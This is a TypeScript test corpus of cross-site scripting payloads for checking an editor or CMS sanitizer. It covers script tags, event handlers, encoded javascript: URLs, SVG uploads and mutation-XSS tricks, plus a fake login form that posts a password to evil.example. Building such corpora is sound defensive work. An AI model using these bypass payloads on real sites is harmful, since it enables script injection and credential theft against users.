/**
 * Hostile content: markup, URLs and CSS an attacker (or a careless paste) could put into any
 * editor field or CMS text. Every payload calls `__xss(N)` (or alert/confirm/prompt with N) if it
 * ever runs, where N is filled in per use ({{n}}), so a run names the payload and the field that
 * let it through. Families follow docs/decisions/0041-hostile-content-corpus.md.
 *
 * Written for this corpus (not copied from a cheat sheet); the classics are well known patterns.
 */
export interface HostilePayload {
  /** Stable name, used in reports ("url-js-tab"). */
  id: string;
  family: PayloadFamily;
  /** The text as typed or imported, with {{n}} where the marker's number goes. */
  template: string;
}

export type PayloadFamily =
  | 'script'
  | 'event-handler'
  | 'url'
  | 'svg'
  | 'embedding'
  | 'navigation'
  | 'css'
  | 'broken-markup'
  | 'mxss'
  | 'breakout';

const M = '__xss({{n}})';

const scripts: [string, string][] = [
  ['script-plain', `<script>${M}</script>`],
  ['script-upper', `<SCRIPT>${M}</SCRIPT>`],
  ['script-mixed-attrs', `<ScRiPt type="text/javascript">${M}</sCrIpT>`],
  ['script-src-data', `<script src="data:text/javascript,${M}"></script>`],
  ['script-nested-strip', `<scr<script>ipt>${M}</scr</script>ipt>`],
  ['script-slash-attr', `<script/x>${M}</script>`],
  ['script-unclosed', `<script>${M}`],
  ['script-module', `<script type="module">${M}</script>`],
  ['script-in-title', `</title><script>${M}</script>`],
  ['script-in-textarea', `</textarea><script>${M}</script>`],
];

const handlers: [string, string][] = [
  ['img-onerror', `<img src=x onerror="${M}">`],
  ['img-onerror-noquote', `<img src=x onerror=${M}>`],
  ['img-onerror-slash', `<img/src=x/onerror=${M}>`],
  ['img-onerror-entity', `<img src=x onerror="&#95;&#95;xss({{n}})">`],
  ['img-onerror-newline', `<img src=x\nonerror\n=\n"${M}">`],
  ['img-onerror-upper', `<IMG SRC=x ONERROR="${M}">`],
  ['img-onload-svg', `<img src="/favicon.ico" onload="${M}">`],
  ['body-onload', `<body onload="${M}">`],
  ['svg-onload-inline', `<svg onload="${M}"></svg>`],
  ['svg-onload-slash', `<svg/onload=${M}>`],
  ['details-ontoggle', `<details open ontoggle="${M}"><summary>x</summary></details>`],
  ['input-onfocus-autofocus', `<input autofocus onfocus="${M}">`],
  ['select-onfocus', `<select autofocus onfocus="${M}"></select>`],
  ['textarea-onfocus', `<textarea autofocus onfocus="${M}"></textarea>`],
  ['a-onmouseover', `<a href="/x" onmouseover="${M}">hover</a>`],
  ['p-onclick', `<p onclick="${M}">click</p>`],
  ['span-onpointerenter', `<span onpointerenter="${M}">x</span>`],
  [
    'div-onanimationstart',
    `<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart="${M}">x</div>`,
  ],
  ['video-onerror', `<video src=x onerror="${M}"></video>`],
  ['audio-onerror', `<audio src=x onerror="${M}"></audio>`],
  ['video-source-onerror', `<video><source onerror="${M}"></video>`],
  ['marquee-onstart', `<marquee onstart="${M}">x</marquee>`],
  ['object-onerror', `<object data=x onerror="${M}"></object>`],
  ['iframe-onload', `<iframe onload="${M}"></iframe>`],
  ['form-onsubmit', `<form onsubmit="${M}"><button>go</button></form>`],
  ['button-formaction', `<form><button formaction="javascript:${M}">go</button></form>`],
  ['isindex-action', `<isindex type=image src=1 onerror="${M}">`],
  ['style-onload', `<style onload="${M}"></style>`],
  ['link-onload', `<link rel=stylesheet href="/x.css" onload="${M}">`],
  ['table-background', `<table background="javascript:${M}"><tr><td>x</td></tr></table>`],
  ['h2-onbeforecopy', `<h2 oncopy="${M}" onwheel="${M}">x</h2>`],
  ['li-ontransitionend', `<ul><li style="transition:all 1s" ontransitionend="${M}">x</li></ul>`],
];

const urls: [string, string][] = [
  ['url-js', `javascript:${M}`],
  ['url-js-upper', `JaVaScRiPt:${M}`],
  ['url-js-tab', `java\tscript:${M}`],
  ['url-js-newline', `java\nscript:${M}`],
  ['url-js-leading-space', ` javascript:${M}`],
  ['url-js-leading-c0', `\u0001javascript:${M}`],
  ['url-js-nul', `java\u0000script:${M}`],
  ['url-js-percent', `javascript:%5f%5fxss({{n}})`],
  ['url-js-unicode-escape', `javascript:\\u005f\\u005fxss({{n}})`],
  ['url-js-entity-colon', `javascript&colon;${M}`],
  ['url-vbscript', `vbscript:msgbox({{n}})`],
  ['url-data-html', `data:text/html,<script>${M}</script>`],
  ['url-data-html-b64', `data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==`],
  ['url-data-svg', `data:image/svg+xml,<svg onload="${M}"/>`],
  ['url-protocol-relative', `//evil.example/x.png`],
  ['url-backslash', `/\\evil.example/x.png`],
  ['url-attr-breakout', `https://x.test/a.png"onerror="${M}"`],
  ['url-path-breakout', `/media/a.png?"><script>${M}</script>`],
  ['url-path-img-breakout', `/x"><img/src/onerror=${M}>.png`],
  ['a-href-js', `<a href="javascript:${M}">link</a>`],
  [
    'a-href-js-entities',
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${M}">link</a>`,
  ],
  [
    'a-href-js-hex-nosemi',
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${M}">link</a>`,
  ],
  ['a-href-js-tab-entity', `<a href="java&Tab;script:${M}">link</a>`],
  ['a-href-js-newline-entity', `<a href="java&#10;script:${M}">link</a>`],
  ['a-href-js-padded-zeros', `<a href="&#0000106avascript:${M}">link</a>`],
  ['a-href-js-c0', `<a href="&#1;javascript:${M}">link</a>`],
  ['a-href-vbscript', `<a href="vbscript:msgbox({{n}})">link</a>`],
  ['a-href-data', `<a href="data:text/html,&lt;script&gt;${M}&lt;/script&gt;">link</a>`],
  ['a-href-unquoted-js', `<a href=javascript:${M}>link</a>`],
  ['a-xlink-href', `<svg><a xlink:href="javascript:${M}"><text y="20">x</text></a></svg>`],
  ['img-src-js', `<img src="javascript:${M}">`],
  ['img-src-data-svg', `<img src="data:image/svg+xml,<svg onload='${M}'/>">`],
];

const svg: [string, string][] = [
  ['svg-script', `<svg><script>${M}</script></svg>`],
  ['svg-script-href', `<svg><script href="data:,${M}"/></svg>`],
  ['svg-foreignobject', `<svg><foreignObject><img src=x onerror="${M}"></foreignObject></svg>`],
  [
    'svg-animate-href',
    `<svg><a><animate attributeName="href" values="javascript:${M}"/><text y="20">x</text></a></svg>`,
  ],
  ['svg-set-onbegin', `<svg><set attributeName="x" onbegin="${M}"/></svg>`],
  [
    'svg-use-data',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${M}'/></svg>#x"/></svg>`,
  ],
  ['svg-image-onerror', `<svg><image href="x" onerror="${M}"/></svg>`],
  ['svg-style-breakout', `<svg><style><img src=x onerror="${M}"></style></svg>`],
];

const embedding: [string, string][] = [
  ['iframe-srcdoc', `<iframe srcdoc="<script>parent.${M}</script>"></iframe>`],
  ['iframe-srcdoc-entities', `<iframe srcdoc="&lt;img src=x onerror=parent.${M}&gt;"></iframe>`],
  ['iframe-src-js', `<iframe src="javascript:parent.${M}"></iframe>`],
  ['object-data-js', `<object data="javascript:parent.${M}"></object>`],
  ['object-data-html', `<object data="data:text/html,<script>parent.${M}</script>"></object>`],
  ['embed-src-data', `<embed src="data:text/html,<script>parent.${M}</script>">`],
  ['frameset', `<frameset onload="${M}"><frame src="/"></frameset>`],
];

const navigation: [string, string][] = [
  ['meta-refresh-js', `<meta http-equiv="refresh" content="0;url=javascript:${M}">`],
  [
    'meta-refresh-data',
    `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${M}</script>">`,
  ],
  ['base-href', `<base href="javascript:${M}//">`],
  ['base-href-evil', `<base href="https://evil.example/">`],
  [
    'form-action-hijack',
    `<form action="https://evil.example/steal" method="post"><input name="password"><button>Sign in</button></form>`,
  ],
  ['form-action-js', `<form action="javascript:${M}"><input type=submit id=go></form>`],
  ['dom-clobber-id', `<img id="__xss" name="__xss"><a id="CONSENT_INLINE">x</a>`],
];

const css: [string, string][] = [
  ['css-expression', `red;width:expression(${M})`],
  ['css-url-js', `red;background:url(javascript:${M})`],
  ['css-declaration-smuggle', `red;background:url(https://evil.example/track.png)`],
  ['css-style-close', `red</style><script>${M}</script>`],
  ['css-attr-break', `#fff" onmouseover="${M}`],
  ['css-hex-lookalike', `#12345g;behavior:url(x.htc)`],
  ['style-attr-expression', `<p style="width:expression(${M})">x</p>`],
  ['style-attr-url-js', `<p style="background:url('javascript:${M}')">x</p>`],
  ['style-tag-import', `<style>@import 'javascript:${M}';</style>`],
  ['style-tag-breakout', `<style></style><script>${M}</script></style>`],
  ['css-escape-js', `<p style="background:url(\\6a avascript:${M})">x</p>`],
];

const broken: [string, string][] = [
  ['broken-unclosed-img', `<img src=x onerror="${M}"`],
  ['broken-unclosed-attr', `<p title="x><img src=x onerror=${M}>">x</p>`],
  ['broken-comment', `<!--<img src="--><img src=x onerror=${M}//">`],
  ['broken-cdata', `<![CDATA[<img src=x onerror=${M}>]]>`],
  ['broken-doubled-lt', `<<img src=x onerror=${M}//<`],
  ['broken-null-in-tag', `<img\u0000 src=x onerror="${M}">`],
  ['broken-attr-no-space', `<img src="x"onerror="${M}">`],
  ['broken-bogus-comment', `<? foo="><script>${M}</script>">`],
  ['broken-end-tag-attr', `</p onmouseover="${M}"><p>x`],
  ['broken-tag-in-attr', `<a title="</a><img src=x onerror=${M}>">x</a>`],
];

const mxss: [string, string][] = [
  ['mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=${M}>"></noscript>`],
  ['mxss-template', `<template><img src=x onerror="${M}"></template>`],
  [
    'mxss-math-mglyph',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${M}&gt;">`,
  ],
  ['mxss-svg-p', `<svg></p><style><a id="</style><img src=1 onerror=${M}>">`],
  ['mxss-math-style', `<math><style><img src=x onerror="${M}"></style></math>`],
  [
    'mxss-form-nesting',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${M}">`,
  ],
  ['mxss-xmp', `<xmp><p title="</xmp><img src=x onerror=${M}>">`],
  ['mxss-textarea-title', `<textarea><p title="</textarea><img src=x onerror=${M}>">`],
  ['mxss-iframe-text', `<iframe><p title="</iframe><img src=x onerror=${M}>"></iframe>`],
  ['mxss-plaintext', `<plaintext><img src=x onerror=${M}>`],
  [
    'mxss-svg-foreign-title',
    `<svg><title><p title="</title><img src=x onerror=${M}>"></title></svg>`,
  ],
  ['mxss-backtick-attr', '<img src=`x` onerror=`__xss({{n}})`>'],
];

const breakouts: [string, string][] = [
  ['attr-dq-onmouseover', `" onmouseover="${M}" x="`],
  ['attr-sq-onfocus', `' autofocus onfocus='${M}' x='`],
  ['attr-gt-img', `"><img src=x onerror=${M}>`],
  ['attr-unquoted', `x onmouseover=${M}`],
  ['jsonld-script-close', `</script><script>${M}</script>`],
  ['jsonld-script-close-upper', `</SCRIPT ><img src=x onerror=${M}>`],
  ['jsonld-comment-open', `<!--<script>${M}</script>`],
  ['js-string-breakout', `';${M};//`],
  ['js-template-breakout', '${__xss({{n}})}'],
  ['js-line-separator', `\u2028${M}\u2029`],
  ['html-entity-lt', `&lt;script&gt;${M}&lt;/script&gt;`],
  ['alert-dialog', `<img src=x onerror="alert({{n}})">`],
  ['confirm-dialog', `<svg onload="confirm({{n}})">`],
  ['prompt-url', `javascript:prompt({{n}})`],
];

function family(name: PayloadFamily, rows: [string, string][]): HostilePayload[] {
  return rows.map(([id, template]) => ({ id, family: name, template }));
}

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  ...family('script', scripts),
  ...family('event-handler', handlers),
  ...family('url', urls),
  ...family('svg', svg),
  ...family('embedding', embedding),
  ...family('navigation', navigation),
  ...family('css', css),
  ...family('broken-markup', broken),
  ...family('mxss', mxss),
  ...family('breakout', breakouts),
];

/** The payload with its marker number filled in. */
export function instantiate(payload: HostilePayload, n: number): string {
  return payload.template.split('{{n}}').join(String(n));
}

/**
 * Uploadable SVG files (the media library serves uploads from /media). Each one carries script in
 * a different place; the api must refuse them or serve them so that nothing runs.
 */
export const HOSTILE_SVG_FILES: readonly { id: string; svg: string }[] = [
  {
    id: 'upload-svg-script',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${M}</script></svg>`,
  },
  {
    id: 'upload-svg-onload',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${M}"/>`,
  },
  {
    id: 'upload-svg-foreignobject',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${M}"/></body></foreignObject></svg>`,
  },
  {
    id: 'upload-svg-xlink-js',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><a xlink:href="javascript:${M}"><rect width="10" height="10"/></a></svg>`,
  },
  {
    id: 'upload-svg-script-cdata-entity',
    svg: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s "<script>${M}</script>">]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">&s;</svg>`,
  },
  {
    id: 'upload-svg-animate-href',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><a><animate attributeName="href" to="javascript:${M}"/><rect width="10" height="10"/></a></svg>`,
  },
  {
    id: 'upload-svg-set-onbegin',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><set attributeName="x" to="1" onbegin="${M}"/></svg>`,
  },
  {
    id: 'upload-svg-namespaced-script',
    svg: `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="10" height="10"><s:script>${M}</s:script></s:svg>`,
  },
];
